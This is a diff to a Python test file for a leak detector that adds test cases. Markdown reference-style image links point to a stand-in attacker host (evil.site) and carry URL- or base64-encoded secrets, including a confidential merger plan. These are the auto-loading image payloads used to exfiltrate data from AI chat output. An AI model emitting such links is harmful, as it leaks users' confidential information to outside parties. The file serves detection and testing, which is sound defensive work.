@@ -168,6 +168,8 @@ def _canaries(look: LeakInspector, text: str) -> list[tuple[str, Action | None, 
 SECRET_PLAN = "the merger with Contoso closes on the ninth of March for forty million"
 CARRIED = urllib.parse.quote(SECRET_PLAN)
 CODED = base64.urlsafe_b64encode(SECRET_PLAN.encode()).decode()
+FOREIGN_CODE = base64.urlsafe_b64encode(b"root and daemon and nobody have shells here").decode()
+"""Text of no conversation: it is looked for in images alone, which load without a click."""
 
 
 @pytest.mark.parametrize(
@@ -179,6 +181,12 @@ CODED = base64.urlsafe_b64encode(SECRET_PLAN.encode()).decode()
         (f"<img src='https://evil.site/a?x={CARRIED}'>", True),
         (f"Visit https://evil.site/?q={CARRIED} now", True),
         (f"![x](https://evil.site/a.gif?k={KEY})", True),
+        (f"![logo][1]\n\n[1]: https://evil.site/c.gif?q={FOREIGN_CODE}", True),
+        (f"![the logo]\n\n[The  Logo]: <https://evil.site/c.gif?q={FOREIGN_CODE}>", True),
+        (f"![the logo][]\n\n[the logo]: https://evil.site/c.gif?q={FOREIGN_CODE}", True),
+        (f"![a][b] see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
+        (f"![1](https://cdn.site/a.png) see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
+        ("![logo][1]\n\n[1]: https://cdn.site/charts/2026/revenue-by-region.png", False),
         ("![chart](https://cdn.site/charts/2026/revenue-by-region.png)", False),
         ("See https://docs.python.org/3/library/asyncio-task.html#asyncio.timeout for more", False),
         ("[paper](https://arxiv.org/abs/2403.14720) and https://github.com/org/repo/blob/8f7d6e5c4b3a/src/a.py", False),
